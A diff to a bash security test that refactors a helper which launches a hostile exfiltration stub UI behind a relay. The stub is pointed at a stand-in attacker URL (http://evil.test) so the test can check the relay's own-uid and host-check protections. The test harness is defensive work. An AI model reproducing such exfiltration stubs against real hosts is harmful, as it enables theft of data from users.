@@ -23,23 +23,14 @@ _pids_to_kill+=($!)
 wait_until "grep -q 'port [0-9]' '$WORK/collector.log'"
 collector_port=$(sed -n 's/.* port \([0-9]*\).*/\1/p' "$WORK/collector.log" | head -1)
 
-# start_ui NAME [RELAY FLAGS...]: the hostile UI on $WORK/NAME/ui.sock behind a relay started as
-# launch starts it (unixat: with the socket owner's uid, --own-uid-only --check-host); sets ui_port.
+source "$SOURCE_DIR/tests/attacks/ui_relay_lib.bash"
+# start_ui NAME [RELAY FLAGS...]: the hostile UI behind a relay with launch's --own-uid-only
+# --check-host and those flags.
 start_ui() {
-  local name=$1 fd
+  local name=$1
   shift
-  mkdir -p "$WORK/$name"
-  python3 "$SOURCE_DIR/tests/attacks/launch_ui_exfil_stub.py" "$WORK/$name/ui.sock" \
-    "http://evil.test:$collector_port" >"$WORK/$name/ui.log" 2>&1 &
-  _pids_to_kill+=($!)
-  wait_until "test -S '$WORK/$name/ui.sock'"
-  exec {fd}<"$WORK/$name"
-  "$TOKFENCE_RELAY_BIN" --forward "tcp:127.0.0.1:0=unixat:$fd/ui.sock@$(id -u)" --own-uid-only --check-host "$@" \
-    --ready-file "$WORK/$name/relay.ready" >"$WORK/$name/relay.log" 2>&1 &
-  _pids_to_kill+=($!)
-  exec {fd}<&-
-  wait_until "test -s '$WORK/$name/relay.ready'"
-  ui_port=$(sed -n 's/^tcp:127.0.0.1:\([0-9]*\)=.*/\1/p' "$WORK/$name/relay.ready")
+  start_ui_relay "$name" "$SOURCE_DIR/tests/attacks/launch_ui_exfil_stub.py" "http://evil.test:$collector_port" -- \
+    --own-uid-only --check-host "$@"
 }
 start_ui open
 open_port=$ui_port
